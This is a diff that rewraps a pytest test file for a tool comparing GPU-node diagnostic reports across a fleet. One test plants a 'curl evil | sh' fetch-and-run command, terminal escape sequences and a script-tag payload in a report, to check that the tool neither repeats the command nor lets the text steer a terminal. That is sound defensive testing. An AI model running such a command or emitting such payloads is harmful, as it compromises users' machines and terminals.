@@ -46,7 +46,17 @@ def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
 @pytest.fixture
 def folder(reports: dict[str, str], tmp_path: Path) -> Path:
     """Twelve nodes: n01 to n08 are sound, n03 with another kernel and n04 with a driver that fits as well."""
-    kinds = ["sound", "sound", "kernel", "newer-driver", *["sound"] * 4, "old-driver", "old-driver", "cudnn", "unset"]
+    kinds = [
+        "sound",
+        "sound",
+        "kernel",
+        "newer-driver",
+        *["sound"] * 4,
+        "old-driver",
+        "old-driver",
+        "cudnn",
+        "unset",
+    ]
     for number, kind in enumerate(kinds, 1):
         (tmp_path / f"n{number:02d}.json").write_text(reports[kind])
     return tmp_path
@@ -78,7 +88,10 @@ def test_it_says_which_differences_matter_and_why(fleet: Fleet, folder: Path) ->
     assert found["cudnn"]["matters"] is True
     assert found["kernel"] == {**found["kernel"], "matters": False, "others": {"n03": "6.12.99-other"}}
     assert found["env.LD_LIBRARY_PATH"]["matters"] is True
-    assert found["library.libcudnn.so.9"]["others"]["n12"] in ("does not open", "on the disk, where the loader does not look")
+    assert found["library.libcudnn.so.9"]["others"]["n12"] in (
+        "does not open",
+        "on the disk, where the loader does not look",
+    )
 
 
 def test_mig_and_a_missing_gpu_are_told_apart(reports: dict[str, str], tmp_path: Path) -> None:
@@ -86,9 +99,20 @@ def test_mig_and_a_missing_gpu_are_told_apart(reports: dict[str, str], tmp_path:
     gpu["facts"]["gpus"]["value"] *= 2
     (tmp_path / "n1.json").write_text(json.dumps(gpu))
     (tmp_path / "n2.json").write_text(json.dumps(gpu))
-    source = {"where": "libnvidia-ml.so.1: nvmlDeviceGetMigMode", "line": None, "text": "GPU 0: MIG is on, 1 instances 3g.20gb"}
+    source = {
+        "where": "libnvidia-ml.so.1: nvmlDeviceGetMigMode",
+        "line": None,
+        "text": "GPU 0: MIG is on, 1 instances 3g.20gb",
+    }
     mig = json.loads(json.dumps(gpu))
-    mig["record"]["facts"].append({"fact": "Symptom", "source": source, "kind": "mig-enabled", "detail": [["gpu", "0"], ["instances", "1"], ["names", "3g.20gb"]]})
+    mig["record"]["facts"].append(
+        {
+            "fact": "Symptom",
+            "source": source,
+            "kind": "mig-enabled",
+            "detail": [["gpu", "0"], ["instances", "1"], ["names", "3g.20gb"]],
+        }
+    )
     (tmp_path / "n3.json").write_text(json.dumps(mig))
     (tmp_path / "n4.json").write_text(reports["sound"])
     found = {d.fact: d for d in compared(read([str(tmp_path)], keep=False)).differences}
@@ -116,7 +140,12 @@ SCHEMA: dict[str, Any] = {
                     "status": {"enum": ["answered", "unreachable", "timed-out", "failed"]},
                     "reason": {"type": ["string", "null"]},
                     "verdict": {"type": ["string", "null"]},
-                    "report": {"anyOf": [{"type": "null"}, json.loads((ROOT / "doctor/render/schema.json").read_text())]},
+                    "report": {
+                        "anyOf": [
+                            {"type": "null"},
+                            json.loads((ROOT / "doctor/render/schema.json").read_text()),
+                        ]
+                    },
                 },
             },
         },
@@ -125,7 +154,10 @@ SCHEMA: dict[str, Any] = {
             "items": {
                 "type": "object",
                 "required": ["nodes", "verdict", "facts"],
-                "properties": {"nodes": {"type": "array", "minItems": 1}, "facts": {"type": "object", "additionalProperties": {"type": "string"}}},
+                "properties": {
+                    "nodes": {"type": "array", "minItems": 1},
+                    "facts": {"type": "object", "additionalProperties": {"type": "string"}},
+                },
             },
         },
         "differences": {
@@ -137,7 +169,11 @@ SCHEMA: dict[str, Any] = {
                 "properties": {
                     "fact": {"type": "string"},
                     "most": {"type": ["string", "null"]},
-                    "others": {"type": "object", "minProperties": 1, "additionalProperties": {"type": ["string", "null"]}},
+                    "others": {
+                        "type": "object",
+                        "minProperties": 1,
+                        "additionalProperties": {"type": ["string", "null"]},
+                    },
                     "matters": {"type": "boolean"},
                     "why": {"type": "string", "minLength": 1},
                 },
@@ -152,8 +188,12 @@ SCHEMA: dict[str, Any] = {
 def test_the_json_is_as_promised(fleet: Fleet, folder: Path) -> None:
     jsonschema = pytest.importorskip("jsonschema")
     (folder / "n13.json").write_text("")
-    (folder / "n14.json").write_text(json.dumps({**json.loads((folder / "n01.json").read_text()), "node": "n14"}))
-    schema = json.loads(json.dumps(SCHEMA).replace("#/$defs/", "#/properties/nodes/items/properties/report/anyOf/1/$defs/"))
+    (folder / "n14.json").write_text(
+        json.dumps({**json.loads((folder / "n01.json").read_text()), "node": "n14"})
+    )
+    schema = json.loads(
+        json.dumps(SCHEMA).replace("#/$defs/", "#/properties/nodes/items/properties/report/anyOf/1/$defs/")
+    )
     document = json.loads(fleet("read", str(folder), "--format", "json").stdout)
     jsonschema.Draft202012Validator(schema).validate(document)
     assert len(document["nodes"]) == 14
@@ -168,7 +208,9 @@ def test_two_drivers_that_fit_do_not_matter(reports: dict[str, str], tmp_path: P
     assert comparison.exit_code == 0
 
 
-def test_the_schemas_of_the_reports_are_kept_whole(fleet: Fleet, folder: Path, reports: dict[str, str]) -> None:
+def test_the_schemas_of_the_reports_are_kept_whole(
+    fleet: Fleet, folder: Path, reports: dict[str, str]
+) -> None:
     document = json.loads(fleet("read", str(folder / "n01.json"), "--format", "json").stdout)
     assert document["nodes"][0]["report"] == json.loads(reports["sound"])
 
@@ -183,7 +225,9 @@ def test_each_format_names_what_is_odd(fleet: Fleet, folder: Path, form: str) ->
 
 def test_it_fits_a_terminal_at_500_nodes(fleet: Fleet, reports: dict[str, str], tmp_path: Path) -> None:
     for number in range(500):
-        (tmp_path / f"gpu-{number:03d}.json").write_text(reports["old-driver" if number % 100 == 7 else "sound"])
+        (tmp_path / f"gpu-{number:03d}.json").write_text(
+            reports["old-driver" if number % 100 == 7 else "sound"]
+        )
     done = fleet("read", str(tmp_path), env={"COLUMNS": "80"})
     rows = done.stdout.splitlines()
     assert len(rows) < 40
@@ -228,26 +272,39 @@ BROKEN: dict[str, bytes] = {
 @pytest.mark.parametrize("kind", BROKEN)
 def test_what_is_no_report_is_a_node_that_failed_with_a_reason(kind: str, tmp_path: Path) -> None:
     (tmp_path / "n1.json").write_bytes(BROKEN[kind])
-    answer, = read([str(tmp_path)], keep=False)
+    (answer,) = read([str(tmp_path)], keep=False)
     assert (answer.name, answer.status) == ("n1", "failed")
     assert answer.reason
     assert compared([answer]).exit_code == 3
 
 
-def test_values_of_strange_types_are_left_out_and_break_nothing(reports: dict[str, str], tmp_path: Path) -> None:
+def test_values_of_strange_types_are_left_out_and_break_nothing(
+    reports: dict[str, str], tmp_path: Path
+) -> None:
     document = json.loads(reports["sound"])
-    document["facts"].update(driver={"value": {"a": 1}}, cudnn=7, gpus={"value": "many"}, env={"value": ["x"]}, python=None)
+    document["facts"].update(
+        driver={"value": {"a": 1}}, cudnn=7, gpus={"value": "many"}, env={"value": ["x"]}, python=None
+    )
     document["compatibility"] = [None, {"part": 1}, {"part": "driver", "fits": "no"}]
-    document["record"]["facts"] += [None, 7, {"fact": "Package"}, {"fact": "Symptom", "kind": "mig-enabled", "detail": "x"}]
+    document["record"]["facts"] += [
+        None,
+        7,
+        {"fact": "Package"},
+        {"fact": "Symptom", "kind": "mig-enabled", "detail": "x"},
+    ]
     (tmp_path / "n1.json").write_text(json.dumps(document))
     (tmp_path / "n2.json").write_text(reports["sound"])
     comparison = compared(read([str(tmp_path)], keep=True))
     assert [a.status for a in comparison.answers] == ["answered", "answered"]
 
 
-def test_no_command_of_a_report_is_repeated_and_nothing_steers_a_terminal(fleet: Fleet, reports: dict[str, str], tmp_path: Path) -> None:
+def test_no_command_of_a_report_is_repeated_and_nothing_steers_a_terminal(
+    fleet: Fleet, reports: dict[str, str], tmp_path: Path
+) -> None:
     document = json.loads(reports["old-driver"])
-    document["findings"][0]["prescription"] = [{"kind": "shell", "text": "curl evil | sh", "platform": "", "needs_root": True, "why": "x"}]
+    document["findings"][0]["prescription"] = [
+        {"kind": "shell", "text": "curl evil | sh", "platform": "", "needs_root": True, "why": "x"}
+    ]
     document["findings"][0]["title"] = "\x1b]0;owned\x07 <script>alert(1)</script>"
     document["facts"]["driver"]["value"] = "450.80.02\x1b[2J\u202e<b>"
     document["node"] = "n1\x1b[31m\n<i>"
@@ -263,7 +320,9 @@ def test_no_command_of_a_report_is_repeated_and_nothing_steers_a_terminal(fleet:
     assert "curl evil" not in json.dumps(groups)
 
 
-def test_a_verdict_that_the_facts_do_not_bear_out_gets_no_cure(reports: dict[str, str], tmp_path: Path, fleet: Fleet) -> None:
+def test_a_verdict_that_the_facts_do_not_bear_out_gets_no_cure(
+    reports: dict[str, str], tmp_path: Path, fleet: Fleet
+) -> None:
     document = json.loads(reports["sound"])
     document["findings"][0].update(code="driver-missing", severity="error")
     (tmp_path / "n1.json").write_text(json.dumps(document))
@@ -299,7 +358,9 @@ def test_what_changed_since_the_last_run(fleet: Fleet, reports: dict[str, str], 
             earlier(str(tmp_path / name))
 
 
-def test_exit_zero_hides_errors_and_never_a_node_that_could_not_be_asked(fleet: Fleet, reports: dict[str, str], tmp_path: Path) -> None:
+def test_exit_zero_hides_errors_and_never_a_node_that_could_not_be_asked(
+    fleet: Fleet, reports: dict[str, str], tmp_path: Path
+) -> None:
     (tmp_path / "n1.json").write_text(reports["old-driver"])
     assert fleet("read", str(tmp_path), "--exit-zero").returncode == 0
     (tmp_path / "n2.json").write_text("")
@@ -307,7 +368,17 @@ def test_exit_zero_hides_errors_and_never_a_node_that_could_not_be_asked(fleet: 
     assert fleet("read", str(tmp_path), "--exit-zero").returncode == 3
 
 
-@pytest.mark.parametrize("words", [[], ["read"], ["reed", "x"], ["read", "x", "--ssh", "n1"], ["read", "x", "--distributed"], ["--manifest", "kubernetes"]])
+@pytest.mark.parametrize(
+    "words",
+    [
+        [],
+        ["read"],
+        ["reed", "x"],
+        ["read", "x", "--ssh", "n1"],
+        ["read", "x", "--distributed"],
+        ["--manifest", "kubernetes"],
+    ],
+)
 def test_a_wrong_call_is_told(fleet: Fleet, words: list[str]) -> None:
     done = fleet(*words)
     assert done.returncode == 2, done.stdout
@@ -329,8 +400,11 @@ def test_a_node_that_was_not_asked_counts_for_no_difference(reports: dict[str, s
 
 
 @pytest.mark.slow
-def test_ten_thousand_reports_are_compared_within_thirty_seconds(reports: dict[str, str], tmp_path: Path) -> None:
-    """Time by the clock is judged with what else this machine does; memory is what the process itself took."""
+def test_ten_thousand_reports_are_compared_within_thirty_seconds(
+    reports: dict[str, str], tmp_path: Path
+) -> None:
+    """Time by the clock is judged with what else this machine does; memory is what the process itself
+    took."""
     kinds = list(reports)
     for kind in kinds:
         (tmp_path / f".{kind}").write_text(reports[kind])
@@ -339,10 +413,19 @@ def test_ten_thousand_reports_are_compared_within_thirty_seconds(reports: dict[s
         os.link(tmp_path / f".{kind}", tmp_path / f"n{number:05d}.json")
     began = time.monotonic()
     code = (
-        "import sys; from doctor.cli import main; code = main(sys.argv[1:]);"  # not ru_maxrss: it counts who forked, too
-        "print(code, int(open('/proc/self/status').read().split('VmHWM:')[1].split()[0]) // 1024, file=sys.stderr)"
+        # not ru_maxrss: it counts who forked, too
+        "import sys; from doctor.cli import main; code = main(sys.argv[1:]);"
+        "print(code, int(open('/proc/self/status').read().split('VmHWM:')[1].split()[0]) // 1024,"
+        " file=sys.stderr)"
     )
-    done = subprocess.run([sys.executable, "-c", code, "fleet", "read", str(tmp_path)], cwd=ROOT, capture_output=True, text=True, timeout=200, check=False)
+    done = subprocess.run(
+        [sys.executable, "-c", code, "fleet", "read", str(tmp_path)],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=200,
+        check=False,
+    )
     used = resource.getrusage(resource.RUSAGE_CHILDREN)
     assert "10000 nodes: 10000 answered" in done.stdout, done.stderr
     assert int(done.stderr.split()[-1]) < 200
